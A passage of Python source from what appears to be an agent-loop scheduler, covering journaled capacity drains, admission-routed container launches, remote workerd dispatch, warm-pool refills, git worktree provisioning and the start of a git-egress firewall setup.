        run's write-ahead journal (``REC_CAPACITY_*`` records), and the
        event bus (typed ``capacity.decision`` events).  The drain gate
        is a literal journal replay -- a scale-down can only fire once
        this run's WAL proves zero live placements (loops or pool
        members) on the victim.  A resumed run restores the journaled
        controller state before the first tick."""
        if self.warmpool is None and not self._bind_worktrees():
            # adaptive sizing needs a pool to size, even when the run
            # was configured depth-0: targets start at zero and only
            # the controller raises them
            wps = self.cfg.settings.loop.warm_pool
            self.warmpool = WarmPool(
                self.loop_id, depth=0, max_age_s=wps.max_age_s,
                journal=self._journal)
            self.admission.register_tenant(
                self.warmpool.tenant, weight=wps.tenant_weight)
        wp = self.warmpool
        controller.bind(CapacityHooks(
            workers=lambda: [w.id for w in self.driver.workers()
                             if w.engine is not None],
            admission_stats=self.admission.stats,
            set_token_cap=self.admission.set_worker_capacity,
            set_shed=self.admission.set_shed,
            pool_stats=wp.stats if wp is not None else None,
            set_pool_target=wp.set_target if wp is not None else None,
            live_placements=self._journaled_live_placements,
            journal=self._journal,
            emit=lambda ev: self.on_event(
                "capacity", CAPACITY_DECISION, ev.detail()),
        ))
        self.capacity = controller
        if self._image is not None and self._image.capacity:
            controller.restore(self._image.capacity)

    def _journaled_live_placements(self, worker_id: str) -> int:
        """Live placements on ``worker_id`` according to this run's
        write-ahead journal -- the scale-down gate.  A drain decision
        reads the REPLAYED journal, not in-memory loop state, so the
        proof is exactly what a post-crash resume would reconstruct: a
        journaled run can never be stranded by a drain its own WAL
        didn't authorize.  With journaling disabled, the live loop
        table is the (weaker) fallback."""
        if self.journal is None:
            return sum(
                1 for l in self.loops
                if l.worker.id == worker_id
                and l.status in ("pending", "running", "orphaned"))
        self.journal.sync()
        image = replay(RunJournal.read(self.journal.path))
        live = sum(1 for li in image.loops.values()
                   if li.worker == worker_id
                   and li.status not in ("done", "failed"))
        live += sum(1 for m in image.pool.values()
                    if m.worker == worker_id
                    and m.state in ("pending", "ready"))
        return live

    def attach_shipper(self, shipper) -> None:
        """Attach a :class:`~clawker_tpu.monitor.shipper.
        TelemetryShipper`: this run's typed bus events and completed
        spans flow into its bounded batches tagged with the run id.
        Strictly observe-only and non-blocking by the shipper's intake
        contract -- a slow or down index can never stall the bus or a
        lane (docs/fleet-console.md#degrade-matrix)."""
        self.events.add_tap(shipper.bus_tap_for(self.loop_id))
        self._span_sinks.append(shipper.span_sink_for(self.loop_id))

    # -------------------------------------------------------------- set up

    def _ensure_health(self) -> HealthMonitor:
        """Construct the fleet HealthMonitor on first use (probe threads
        start in run()).  Built this early so PLACEMENT sees live
        breaker state: engine-less workers pre-open their breakers at
        construction, and tests/resumes can trip breakers before
        start() -- a quarantined worker must receive zero placements,
        including the initial ones."""
        if self.health is not None:
            return self.health
        fleet = list(self.driver.workers())
        known = {w.id for w in fleet}
        # a resume may carry loops journaled onto workers the current
        # fleet no longer has: engine-less stand-ins join the monitored
        # set so their pre-opened breakers orphan those loops into the
        # normal failover machinery on the first verdict drain
        fleet.extend(w for w in self._extra_workers if w.id not in known)
        self.health = HealthMonitor(
            self.driver, fleet,
            config=self._health_config, events=self.events,
            on_verdict=lambda wid, old, new, reason: (
                self._verdicts.put((wid, old, new, reason)),
                self._wake.set()))
        return self.health

    def _placement_ctx(self, workers: list[Worker] | None = None
                       ) -> PlacementContext:
        """The LIVE context every placement decision reads: current
        fleet, breaker states, recent probe latency, load, topology."""
        ws = list(workers if workers is not None else self.driver.workers())
        known = {w.id for w in ws}
        ws.extend(w for w in self._extra_workers if w.id not in known)
        if self._topology is None:
            # shape from the REAL pod only: resume stand-ins (journaled
            # workers absent from the fleet) have no coordinates, and
            # counting them would mis-infer the grid (or invalidate an
            # explicit topology) for the whole cached run
            self._topology = pod_topology(
                self.cfg.settings.runtime.tpu, len(self.driver.workers()))
        health = self.health
        return PlacementContext(
            workers=ws,
            breaker_state=(health.state if health is not None
                           else (lambda wid: BREAKER_CLOSED)),
            latency_s=(health.latency_p50_s if health is not None
                       else (lambda wid: 0.0)),
            load=self._load_by_worker(),
            topology=self._topology)

    @property
    def _lanes(self) -> dict[str, _WorkerLane]:
        """The live lane table (tests / introspection)."""
        return self.lanes.lanes

    def _lane(self, worker: Worker) -> _WorkerLane:
        return self.lanes.lane(worker.id)

    def _submit_launch(self, loop: AgentLoop, worker: Worker, epoch: int,
                       fn) -> None:
        """Route a create/start/restart through admission onto the
        worker's lane (docs/loop-placement.md).

        The loop's in-flight HANDLE future settles when the launch
        completes (or its ticket is cancelled); while the launch waits
        in the admission queue there is no lane task yet, so busy
        tracking reads the handle and wedge detection reads
        ``_lane_task`` (set at dispatch).  The per-worker token is
        released in the lane future's done-callback -- covering create
        AND first start, the whole burst a daemon actually feels.

        A REJECTED submission (pending queue full) strands the loop
        WITHOUT penalizing the worker's breaker: a full queue is
        backpressure, not sickness -- the rescue pass re-places it
        through the policy at tick cadence.
        """
        agent = loop.agent
        self._placed_workers.add(worker.id)
        handle: Future = Future()
        handle.add_done_callback(lambda _f: self._wake.set())
        self._inflight[agent] = handle
        # drop any stale lane task now: a re-placed loop must not have
        # its OLD placement's (possibly wedged) task attributed to the
        # new worker by the launch-wedge scan while the new launch is
        # still queued in admission
        self._lane_task.pop(agent, None)
        t_submit = time.monotonic()

        def cancelled() -> bool:
            return self._stop.is_set() or loop.epoch != epoch

        def on_cancel() -> None:
            if not handle.done():
                handle.set_result(None)

        def dispatch(release) -> None:
            # the WorkerExecutor seam (docs/workerd.md): with a live
            # channel to this worker's workerd, the launch becomes a
            # batched intent executed against the worker's LOCAL engine
            # socket -- zero blocking WAN round trips on this side.  A
            # mid-dispatch degrade (channel just died, restart with no
            # container yet) falls through to the direct lane.
            fut: Future | None = None
            if fn in (self._launch, self._guarded_start):
                ex = self._workerd_for(worker)
                if ex is not None:
                    self._queue_wait[agent] = time.monotonic() - t_submit
                    # NOTE: == not `is` -- bound-method attribute access
                    # builds a fresh object per read, so identity never
                    # matches; equality compares (__self__, __func__)
                    fut = self._workerd_dispatch(
                        ex, loop, epoch, worker,
                        restart=fn == self._guarded_start)
            if fut is None:
                def task():
                    # stamp the full pre-create wait (admission queue +
                    # lane queue) where the iteration span can pick it
                    # up: the root opens inside fn, on this lane thread
                    self._queue_wait[agent] = time.monotonic() - t_submit
                    return fn(loop, epoch, worker)

                fut = self._lane(worker).submit(task)
                self._lane_task[agent] = fut
            lane_fut = self._lane_task.get(agent)

            def done(f: Future) -> None:
                release()
                if self._lane_task.get(agent) is lane_fut is f:
                    self._lane_task.pop(agent, None)
                if handle.done():
                    return
                exc = f.exception()
                if exc is not None:
                    handle.set_exception(exc)
                else:
                    handle.set_result(None)

            fut.add_done_callback(done)

        # write-ahead: the queue entry is journaled before the ticket
        # exists, so a resume can rebuild the pending queue in order
        self._journal(REC_ADMIT_QUEUED, agent=agent, worker=worker.id,
                      tenant=self.spec.tenant, epoch=epoch)
        st = self.admission.submit(worker.id, self.spec.tenant, dispatch,
                                   cancelled=cancelled, on_cancel=on_cancel)
        if st == ADMISSION_REJECTED:
            # the rejection carries its backoff hint (satellite of
            # docs/elastic-capacity.md): surface it in the typed event
            # and pin the rescue pass behind it -- an immediate re-place
            # would bounce straight off the same full (or shed) queue
            retry_after = getattr(st, "retry_after_s", 0.0)
            why = getattr(st, "reason", "") or "admission queue full"
            self.on_event(agent, PLACEMENT_DECISION, PlacementEvent(
                agent, worker.id, self.policy.name, self.spec.tenant,
                "rejected", why, retry_after_s=retry_after).detail())
            loop.retry_at = time.monotonic() + max(0.0, retry_after)
            self._strand(loop, epoch,
                         f"{why} on {worker.id}"
                         + (f" (retry in {retry_after:.2f}s)"
                            if retry_after > 0 else ""),
                         penalize=False)
            if not handle.done():
                handle.set_result(None)
            return
        # ADMITTED (dispatched or queued): the loop made real progress,
        # so its orphan-grace clock resets.  A REJECTED re-submission
        # keeps the clock running -- rejection strands skip the strand
        # ceiling (penalize=False is flow control, not sickness), so
        # --orphan-grace is the only bound on a queue that never drains
        self._orphan_since.pop(agent, None)

    # ------------------------------------------------------------- workerd

    def _workerd_live(self, worker_id: str) -> bool:
        """True while the worker has a LIVE channel to its workerd --
        exits stream, so run() skips WAN polls and waiters for it."""
        return (self.executors is not None
                and self.executors.for_worker(worker_id) is not None)

    def _workerd_for(self, worker: Worker):
        """The worker's live executor, or None (= direct path).
        BIND-mode worktree runs are always direct: the worktree mount
        is a host-local path the worker-resident daemon cannot stage.
        Snapshot-mode worktree runs dispatch -- their content rides the
        content-addressed workspace seed instead of a mount."""
        if self.executors is None or self._bind_worktrees():
            return None
        return self.executors.for_worker(worker.id)

    # --- workspace-seed fan-out (docs/loop-worktrees.md): one tree
    # walk per fan-out, one WAN transfer per (digest, worker).

    def _seed_root(self, loop: AgentLoop | None = None) -> Path:
        """The directory a snapshot create seeds from: the agent's
        worktree once provisioned (its divergence is exactly what a
        re-create must carry), else the project root.  While worktrees
        have not diverged from base their digests COLLAPSE to the
        project root's -- N agents cost one cache entry."""
        if loop is not None and loop.worktree is not None:
            return loop.worktree
        return self.cfg.project_root or Path.cwd()

    def _workspace_seed(self, root: Path) -> tuple[str, bytes | None]:
        """(digest, tar) of the workspace seed for ``root`` via the
        content-addressed cache; journals REC_SEED_TAR (durable) the
        first time this run sees a digest, so a resume knows which
        seeds were in flight without re-walking anything."""
        root = Path(root)
        if not root.exists():
            return "", None
        digest, tar = workspace_seed_tar(root)
        if digest:
            with self._seed_lock:
                if digest not in self._seeds_journaled:
                    self._seeds_journaled.add(digest)
                    # degraded WAL: proceed anyway -- a resume that lost
                    # this record re-builds the seed (idempotent, slow)
                    self._durable_ok(self._journal(
                        REC_SEED_TAR, durable=True, digest=digest,
                        bytes=len(tar)), "seed_tar")
        return digest, tar

    def _ship_seed(self, ex, worker: Worker, root: Path) -> str:
        """Stage the workspace seed in ``worker``'s workerd seed store
        (once per (digest, worker): the executor tracks what it sent).
        The WAL lands BEFORE the send -- a resume reads REC_SEED_SHIP to
        know which workers may hold the digest; re-shipping after a
        crash is harmless (a content-addressed put is idempotent).  A
        transfer lost to a dying link only degrades that worker's
        creates to the per-create fallback walk -- never correctness."""
        digest, tar = self._workspace_seed(root)
        if not digest or tar is None or ex is None or ex.seeded(digest):
            return digest
        # degraded WAL: still ship -- a resume that lost this record
        # re-ships, and a content-addressed put is idempotent
        self._durable_ok(self._journal(REC_SEED_SHIP, durable=True,
                                       digest=digest, worker=worker.id),
                         "seed_ship")
        ex.submit_seed(digest, tar)
        return digest

    def _launch_env(self, loop: AgentLoop) -> dict[str, str]:
        return {
            "CLAWKER_LOOP_ID": self.loop_id,
            "CLAWKER_LOOP_AGENT": loop.agent,
            **({"CLAWKER_LOOP_PROMPT": self.spec.prompt}
               if self.spec.prompt else {}),
            **self.spec.env,
        }

    def _launch_opts_doc(self, loop: AgentLoop, worker: Worker,
                         epoch: int) -> dict:
        """The CreateOptions a launch intent carries -- the same fields
        _create builds in-process (workerd constructs the CreateOptions
        from this doc and runs the full create path locally).  A
        snapshot create references its workspace seed BY DIGEST: the
        worker-local seed store resolves it without a WAN transfer or a
        tree walk (a store miss degrades to the local fallback walk)."""
        doc = {
            "agent": loop.agent, "image": self.spec.image,
            "env": self._launch_env(loop), "tty": False,
            "workspace_mode": self._effective_mode(),
            "worker": worker.id, "loop_id": self.loop_id,
            "extra_labels": {consts.LABEL_LOOP_EPOCH: str(epoch)},
            "replace": True,
        }
        if doc["workspace_mode"] == "snapshot":
            digest, _tar = self._workspace_seed(self._seed_root(loop))
            if digest:
                doc["seed_digest"] = digest
        return doc

    def _state_doc(self, loop: AgentLoop) -> dict:
        """The per-iteration context file, shipped in the intent so
        workerd writes it locally (the direct path's
        _write_iteration)."""
        from ..agentd.protocol import b64

        return {"dir": LOOP_STATE_DIR,
                "tar": b64(self._iteration_state_tar(loop))}

    def _workerd_dispatch(self, ex, loop: AgentLoop, epoch: int,
                          worker: Worker, *, restart: bool) -> Future | None:
        """Send one launch/restart intent over the worker's channel.
        Returns the handle future the admission release rides, or None
        to fall back to the direct lane (restart with no container --
        the epoch moved under us)."""
        self.seams.fire("workerd.pre_dispatch")
        if restart:
            with self._placement_lock:
                if loop.epoch != epoch or self._stop.is_set():
                    done: Future = Future()
                    done.set_result(None)
                    return done
                cid = loop.container_id
                fresh = loop.fresh_container
            if not cid:
                return None         # nothing to restart: direct path owns it
            return ex.submit_start(loop, epoch, worker, cid=cid,
                                   fresh=fresh, state=self._state_doc(loop))
        # launch: create + first start.  Warm-pool checkout stays
        # scheduler-side (bookkeeping); the engine-side adoption runs
        # worker-resident, falling back to a cold create there.
        self.seams.fire("launch.pre_create")
        if self.spec.worktrees and loop.worktree is None:
            # snapshot-mode worktree dispatch: the branch + worktree
            # identity lives HOST-side (the merge queue lands it); only
            # the content travels, as the seed below
            with self._git_lock:
                workspace_root, _git_dir = self._maybe_worktree(loop.agent)
            loop.worktree = workspace_root
        if self._effective_mode() == "snapshot":
            # one transfer per (digest, worker); every create on the
            # worker then fans out from its local store
            self._ship_seed(ex, worker, self._seed_root(loop))
        pool_cid = ""
        pool_entry = None
        if self.warmpool is not None and worker.engine is not None:
            pool_entry = self.warmpool.checkout(worker.id, by=loop.agent,
                                                epoch=epoch)
            if pool_entry is not None:
                pool_cid = pool_entry.cid
        opts = self._launch_opts_doc(loop, worker, epoch)
        if pool_entry is not None:
            opts["extra_labels"][consts.LABEL_WARMPOOL] = pool_entry.agent
        return ex.submit_launch(loop, epoch, worker, opts_doc=opts,
                                state=self._state_doc(loop),
                                pool_cid=pool_cid, pool_entry=pool_entry)

    # --- event-stream accounting: these run on the executor's reader
    # thread and write the SAME journal records, spans, and transitions
    # the lane-thread path writes, on the same locks, in the same order.

    def _workerd_created(self, loop: AgentLoop, epoch: int, worker: Worker,
                         cid: str, pool_hit: bool, pool_error: str,
                         pool_entry, ms: float, *,
                         wan_ms: float = 0.0) -> None:
        if pool_entry is not None and not pool_hit:
            # remote adoption failed and workerd cold-created instead:
            # account the recycled member and discard its container
            if self.warmpool is not None:
                self.warmpool.adoption_failed(
                    pool_entry, pool_error or "remote adoption failed")
            threading.Thread(
                target=self._remove_cid, args=(worker, pool_entry.cid),
                daemon=True, name=f"workerd-recycle-{pool_entry.cid[:12]}",
            ).start()
        # durable before anything acts on the cid -- same contract as
        # _create: a crash here re-finds the container by (deterministic
        # name, journaled cid).  The container already exists, so a
        # broken promise here cannot be unwound -- degrade loudly
        self._durable_ok(self._journal(
            REC_CREATED, durable=True, agent=loop.agent,
            worker=worker.id, epoch=epoch, cid=cid,
            pool=pool_hit), "created")
        self.seams.fire("launch.post_create")
        with self._placement_lock:
            if loop.epoch != epoch or self._stop.is_set():
                # orphaned while the create was remote: leftover for
                # the cleanup/ghost machinery, exactly like _create
                loop.abandoned.append((worker, cid))
                return
            loop.container_id = cid
            loop.fresh_container = True
            self._begin_iter_span(loop, worker, epoch)
        now = self.tracer.now()
        self.tracer.child(loop.agent, loop.iteration, SPAN_CREATE,
                          now - ms / 1000.0, now, worker=worker.id,
                          pool=pool_hit, workerd=True,
                          wan_ms=round(wan_ms, 3))
        self.on_event(loop.agent, "created", worker.id)

    def _workerd_started(self, loop: AgentLoop, epoch: int, worker: Worker,
                         ms: float, *, wan_ms: float = 0.0) -> None:
        with self._placement_lock:
            if loop.epoch != epoch or self._stop.is_set():
                return
            if loop.status not in ("pending", "running"):
                # a late started for a loop that already reached a
                # terminal state must never resurrect it to "running"
                return
            self._begin_iter_span(loop, worker, epoch)   # idempotent
            loop.fresh_container = False
            loop.status = "running"
            loop.strands = 0        # the placement genuinely works
        self._journal(REC_STARTED, agent=loop.agent, worker=worker.id,
                      epoch=epoch, iteration=loop.iteration)
        self.seams.fire("launch.post_start")
        now = self.tracer.now()
        self.tracer.child(loop.agent, loop.iteration, SPAN_START,
                          now - ms / 1000.0, now, worker=worker.id,
                          workerd=True, wan_ms=round(wan_ms, 3))
        self._iter_started[(loop.agent, loop.iteration)] = now
        self.on_event(loop.agent, "iteration_start", str(loop.iteration))

    def _workerd_failed(self, loop: AgentLoop, epoch: int, worker: Worker,
                        phase: str, error: str, *, driverish: bool,
                        penalize: bool = True, pool_entry=None) -> None:
        if pool_entry is not None:
            # the checked-out pool member never got adopted (intent
            # failed or expired): account the recycle and discard its
            # container, exactly like the direct path's adoption-failed
            # branch -- silent drops would drift pool depth accounting
            if self.warmpool is not None:
                self.warmpool.adoption_failed(
                    pool_entry, f"workerd {phase}: {error}")
            threading.Thread(
                target=self._remove_cid, args=(worker, pool_entry.cid),
                daemon=True,
                name=f"workerd-recycle-{pool_entry.cid[:12]}").start()
        if self._stop.is_set() or loop.epoch != epoch:
            return
        if driverish:
            # the worker-side engine refused (daemon down there), or the
            # channel itself died (penalize=False: workerd death is not
            # engine sickness) -- either way the rescue pass re-places
            self._strand(loop, epoch, f"workerd {phase}: {error}",
                         penalize=penalize)
            return
        loop.status = "failed"
        self._journal(REC_LOOP_END, agent=loop.agent, status="failed",
                      reason=f"{phase}: {error}")
        self.tracer.end_iteration(loop.agent, loop.iteration,
                                  status="failed",
                                  reason=f"{phase}: {error}")
        self.on_event(loop.agent, f"{phase}_failed", error)
        log.error("loop %s: workerd %s failed: %s", loop.agent, phase, error)

    def _workerd_exited(self, agent: str, epoch: int, iteration: int,
                        code, detail: str) -> None:
        """Unsolicited exit from the worker-resident waiter: queued for
        the run thread, which accounts it through the same
        _finish_iteration path as a poll result."""
        self._remote_exits.put((agent, epoch, iteration, code, detail))
        self._wake.set()

    def _workerd_running_view(self, worker_id: str) -> list[dict]:
        """The iterations the scheduler has actually OBSERVED start on
        ``worker_id`` -- what a post-partition resync asks workerd to
        re-watch.  Gated on the open wait span (_iter_started), not
        just status: a loop between iterations still reads "running"
        while its restart is queued, and a view entry for it would make
        workerd inspect the PREVIOUS iteration's exited container and
        report a phantom exit for an iteration that never ran."""
        view = []
        for loop in list(self.loops):
            if (loop.status == "running" and loop.container_id
                    and loop.worker.id == worker_id
                    and (loop.agent, loop.iteration) in self._iter_started):
                view.append({"agent": loop.agent, "epoch": loop.epoch,
                             "iteration": loop.iteration,
                             "cid": loop.container_id})
        return view

    def _drain_remote_exits(self) -> list[tuple[AgentLoop, int | None, str]]:
        """Remote exit events -> (loop, code, detail) rows, dropping
        stale ones (superseded epoch, already-accounted iteration, or
        an iteration the scheduler never observed START -- the dedup
        that makes a post-partition resync's replayed exits idempotent
        and phantom-proof)."""
        out: list[tuple[AgentLoop, int | None, str]] = []
        by_agent = {l.agent: l for l in self.loops}
        while True:
            try:
                agent, epoch, iteration, code, detail = \
                    self._remote_exits.get_nowait()
            except queue.Empty:
                return out
            loop = by_agent.get(agent)
            if (loop is None or loop.epoch != epoch
                    or loop.status != "running"
                    or loop.iteration != iteration
                    or (agent, iteration) not in self._iter_started):
                continue
            if code is None and not detail:
                detail = "exit unreadable"
            out.append((loop, int(code) if code is not None else None,
                        detail))

    # ------------------------------------------------------------ warm pool

    def _pool_tick(self) -> None:
        """Keep every healthy worker's warm pool at target depth
        (docs/loop-warmpool.md).  Runs on the run thread each tick:
        expired members are recycled, and refills are submitted through
        admission under the pool's low-weight tenant -- the WFQ hands
        real placements the tokens first, so a refill burst can never
        starve live launches."""
        wp = self.warmpool
        if wp is None or self._stop.is_set() or wp.draining:
            return
        for entry in wp.take_expired():
            self._lane(entry.worker).submit(
                self._remove_cid, entry.worker, entry.cid)
        for worker in self.driver.workers():
            if worker.engine is None:
                continue
            if (self.health is not None
                    and self.health.state(worker.id) != BREAKER_CLOSED):
                continue
            while wp.want(worker.id) > 0:
                pool_agent = wp.begin_refill(worker)
                if pool_agent is None:
                    break
                if not self._submit_refill(worker, pool_agent):
                    # admission pending queue saturated: the released
                    # reservation would make want() > 0 again, so retry
                    # next tick instead of spinning durable journal
                    # records on the run thread
                    break

    def prefill_pool(self, timeout: float = 0.0) -> int:
        """Kick one refill round now and (optionally) wait until every
        worker's pool reads target depth or ``timeout`` elapses.
        Returns the number of adoptable members.  Callers that want the
        FIRST placements to hit the pool (benches, tests, a CLI warm
        start) call this before :meth:`start`; during a run the tick
        does the same thing continuously."""
        if self.warmpool is None:
            return 0
        self._pool_tick()
        deadline = time.monotonic() + max(0.0, timeout)
        workers = [w for w in self.driver.workers() if w.engine is not None]

        def ready() -> int:
            return sum(self.warmpool.depth_of(w.id) for w in workers)

        target = self.warmpool.depth * len(workers)
        while timeout and ready() < target and time.monotonic() < deadline:
            time.sleep(0.005)
        return ready()

    def _submit_refill(self, worker: Worker, pool_agent: str) -> bool:
        """Route one pool fill through admission onto the worker's lane.
        A REJECTED or failed fill just releases the reservation --
        refills are opportunistic, never a loop failure and never a
        breaker report (probes judge the worker).  Returns False on a
        synchronous admission rejection so the tick stops refilling
        this worker (the queue is saturated; retrying now would spin)."""
        wp = self.warmpool

        def cancelled() -> bool:
            return self._stop.is_set() or wp.draining

        def on_cancel() -> None:
            wp.fill_done(worker, pool_agent, None, "cancelled")

        def dispatch(release) -> None:
            # workerd seam: refill creates execute worker-resident too
            # (the `create` intent), so a pool fill costs one batched
            # WAN crossing instead of the whole create call chain
            remote_fill = (self._workerd_for(worker)
                           if not (self._stop.is_set() or wp.draining)
                           else None)
            if remote_fill is not None:
                # pre-stage the workspace seed (docs/loop-worktrees.md):
                # the fill's create resolves it from the worker-local
                # store, so warm_pool_hit_p50 keeps its split even on
                # WAN-remote workers
                if self._effective_mode() == "snapshot":
                    self._ship_seed(remote_fill, worker, self._seed_root())
                fut = remote_fill.submit_pool_fill(
                    pool_agent, self._pool_opts_doc(worker, pool_agent))
            else:
                fut = self._lane(worker).submit(
                    self._pool_fill, worker, pool_agent)

            def done(f: Future) -> None:
                release()
                exc = f.exception()
                if exc is not None:
                    wp.fill_done(worker, pool_agent, None, f"{exc}")
                    log.info("pool refill on %s failed: %s", worker.id, exc)
                    return
                cid = f.result()
                if remote_fill is not None and cid:
                    self.seams.fire("pool.post_fill")
                if cid is None:
                    wp.fill_done(worker, pool_agent, None, "skipped")
                elif not wp.fill_done(worker, pool_agent, cid):
                    # the pool started draining while the fill was on
                    # the lane: discard on this same lane (ordered
                    # after us), so drain can never leak it
                    self._lane(worker).submit(
                        self._remove_cid, worker, cid)

            fut.add_done_callback(done)

        self._placed_workers.add(worker.id)
        st = self.admission.submit(worker.id, wp.tenant, dispatch,
                                   cancelled=cancelled, on_cancel=on_cancel)
        if st == ADMISSION_REJECTED:
            wp.fill_done(worker, pool_agent, None, "admission rejected")
            return False
        return True

    def _pool_opts_doc(self, worker: Worker, pool_agent: str) -> dict:
        """The create doc a remote pool-fill intent carries (mirrors
        _pool_fill's CreateOptions)."""
        env = {
            "CLAWKER_LOOP_ID": self.loop_id,
            **({"CLAWKER_LOOP_PROMPT": self.spec.prompt}
               if self.spec.prompt else {}),
            **self.spec.env,
        }
        doc = {
            "agent": pool_agent, "image": self.spec.image, "env": env,
            "tty": False,
            "workspace_mode": self._effective_mode(),
            "worker": worker.id, "loop_id": self.loop_id,
            "extra_labels": {consts.LABEL_LOOP_EPOCH: consts.POOL_EPOCH,
                             consts.LABEL_WARMPOOL: pool_agent},
            "replace": True,
        }
        if doc["workspace_mode"] == "snapshot":
            # pool members seed from the project root: an adopting
            # agent's worktree has not diverged at adoption time, so
            # the digests are identical (docs/loop-worktrees.md)
            digest, _tar = self._workspace_seed(self._seed_root())
            if digest:
                doc["seed_digest"] = digest
        return doc

    def _pool_fill(self, worker: Worker, pool_agent: str) -> str | None:
        """Create one pool member (the expensive create-time stages) on
        the owning worker's lane.  Runs under the pool placeholder
        agent name; adoption finalizes the real agent's surface."""
        wp = self.warmpool
        if wp is None or self._stop.is_set() or wp.draining:
            return None
        rt = self._runtime(worker)
        # the fill's own harness seed populates the (harness, root,
        # credentials) staging-tar cache, so every subsequent create on
        # this worker -- warm or cold -- reuses the staged tar
        env = {
            "CLAWKER_LOOP_ID": self.loop_id,
            **({"CLAWKER_LOOP_PROMPT": self.spec.prompt}
               if self.spec.prompt else {}),
            **self.spec.env,
        }
        mode = self._effective_mode()
        seed_digest = ""
        if mode == "snapshot":
            # pre-stage the workspace seed (docs/loop-worktrees.md):
            # warms the content-addressed tar cache AND journals the
            # digest, so this fill and every adoption-era create reuse
            # one tree walk
            seed_digest, _tar = self._workspace_seed(self._seed_root())
        # analyze: allow(wal-before-mutation): REC_POOL_ADD is journaled
        # durable in warmpool.begin_refill BEFORE this fill is submitted
        # to the lane -- the WAL lives one hop up the flow
        cid = rt.create(CreateOptions(
            agent=pool_agent,
            image=self.spec.image,
            env=env,
            tty=False,
            workspace_mode=mode,
            seed_digest=seed_digest,
            worker=worker.id,
            loop_id=self.loop_id,
            extra_labels={consts.LABEL_LOOP_EPOCH: consts.POOL_EPOCH,
                          consts.LABEL_WARMPOOL: pool_agent},
            replace=True,
        ))
        self.seams.fire("pool.post_fill")
        return cid

    def _drain_pool_worker(self, worker: Worker) -> None:
        """Remove every pool member on ``worker`` (runs on its lane,
        AFTER any queued fills -- nothing can be added behind it)."""
        wp = self.warmpool
        if wp is None:
            return
        for entry in wp.drain_worker(worker.id):
            self._remove_cid(worker, entry.cid)

    def _runtime(self, worker: Worker) -> AgentRuntime:
        from ..controlplane.bootstrap import post_start_services, pre_start_services
        from ..fleet.channels import open_side_channels

        channels = None
        try:
            # every loop agent gets the side channel the reference
            # guarantees every agent (hostproxy + monitor stream), tunneled
            # for remote workers (VERDICT r1 weak #6)
            channels = open_side_channels(worker.require_engine(), self.cfg)
        except Exception as e:
            self.on_event("scheduler", "side_channels_unavailable",
                          f"{worker.id}: {e}")
        return AgentRuntime(
            worker.require_engine(), self.cfg,
            pre_start=lambda ref: pre_start_services(self.cfg, self.driver, ref),
            post_start=lambda ref: post_start_services(self.cfg, self.driver, ref),
            channels=channels,
        )

    def _maybe_worktree(self, agent: str) -> tuple[Path | None, Path | None]:
        """(workspace_root, worktree_git_dir) for this loop agent:
        branch-per-agent from one base, one linked worktree -- never a
        clone.  Callers hold ``_git_lock`` (one shared repo).

        Write-ahead: REC_SEED_WORKTREE lands (durable) BEFORE the git
        mutation, so a crash anywhere inside ``worktree add`` resumes
        straight back through the idempotent
        :meth:`~clawker_tpu.gitx.git.GitManager.setup_worktree` with
        zero duplicate branches or worktrees."""
        if not self.spec.worktrees:
            return None, None
        from ..gitx.git import GitManager

        root = self.cfg.project_root or Path.cwd()
        gm = GitManager(root)
        if not gm.is_repo():
            raise ClawkerError("loop: --worktrees requires a git repository")
        wts = self.cfg.settings.loop.worktrees
        branch = f"{wts.branch_prefix}/{self.loop_id}/{agent}"
        dest = self.cfg.data_dir / "worktrees" / self.cfg.project_name() / agent
        if agent not in self._worktrees_journaled:
            self._worktrees_journaled.add(agent)
            # degraded WAL: setup_worktree is idempotent on resume
            self._durable_ok(self._journal(
                REC_SEED_WORKTREE, durable=True, agent=agent,
                path=str(dest), branch=branch, base=wts.base),
                "seed_worktree")
        info = gm.setup_worktree(dest, branch, base=wts.base)
        self._branches[agent] = branch
        return info.path, gm.git_dir()

    # ---------------------------------------------------------- gitguard

    def _gitguard_armed(self) -> bool:
        """--worktrees runs guard their git lane unless explicitly
        opted out (spec.gitguard False) or disabled in settings."""
        if not self.spec.worktrees:
            return False
        if self.spec.gitguard is not None:
            return self.spec.gitguard
        return bool(self.cfg.settings.gitguard.enable)

    def _gitguard_socket_path(self) -> Path:
        gs = self.cfg.settings.gitguard
        if gs.socket:
            return Path(gs.socket)
        return self.cfg.data_dir / "gitguard" / f"{self.loop_id}.sock"

    def _gitguard_setup(self) -> None:
        """Arm the git firewall for this run (docs/git-policy.md).

        Two mutations, both fail-closed on error: (1) run-scoped egress
        rules -- each configured git host's https lane forced through
        the guard plus ssh/22 + git/9418 deny pins -- journaled
        write-ahead (REC_GITGUARD_RULES, durable, NEW keys only, so
        teardown after any crash/resume removes exactly what this run
        added and never a user's standing rule); (2) the proxy itself
        on a hardened unix socket over the run's seed repository.
        Every proxy verdict journals, rides the bus typed, and counts
        in the gitguard_* metrics."""
        if not self._gitguard_armed() or self.gitguard is not None:
            return
        from ..firewall.rules import RulesStore
        from ..gitguard import (
            GitguardServer,
            LocalRepoUpstream,
            RefPolicy,
            git_egress_rules,
        )
        from ..gitx.git import GitManager

        gs = self.cfg.settings.gitguard
        wts = self.cfg.settings.loop.worktrees
        root = self.cfg.project_root or Path.cwd()
        gm = GitManager(root)
        base = wts.base
        if base == "HEAD":
            try:
                base = gm.current_branch() or "main"
            except ClawkerError:
                base = "main"
        merge_ref = (f"refs/heads/{wts.merge_into}" if wts.merge_into
                     else "")
        policy = RefPolicy(
            run=self.loop_id, branch_prefix=wts.branch_prefix,
            base_refs=(f"refs/heads/{base}",), merge_ref=merge_ref)
        # rule install: WAL the keys this run is about to ADD (a key
        # already in the store belongs to the user and is never listed,
        # so teardown cannot eat it), then mutate the store
        try:
            store = RulesStore(self.cfg.egress_rules_path)
            have = {r.key() for r in store.load()}
            rules = git_egress_rules(list(gs.hosts))
            fresh = [r for r in rules if r.key() not in have]
            keys = [r.key() for r in fresh]
            if keys:
                # degraded WAL risks rules outliving the run (teardown
                # key list lost); install anyway -- refusing git egress
                # over a disk fault would strand every push
                self._durable_ok(self._journal(
                    REC_GITGUARD_RULES, durable=True, keys=keys,
                    hosts=list(gs.hosts)), "gitguard_rules")
                if self.journal is not None:
                    self.journal.sync()
                store.add(fresh)
                for k in keys:
                    if k not in self._gitguard_rule_keys:
                        self._gitguard_rule_keys.append(k)
        except ClawkerError as e:
            self.on_event("scheduler", "gitguard_rules_failed", str(e))
            log.error("loop %s: gitguard rule install failed: %s",
                      self.loop_id, e)
        try:
            self.gitguard = GitguardServer(
                LocalRepoUpstream(root), policy,
                socket_path=self._gitguard_socket_path(),
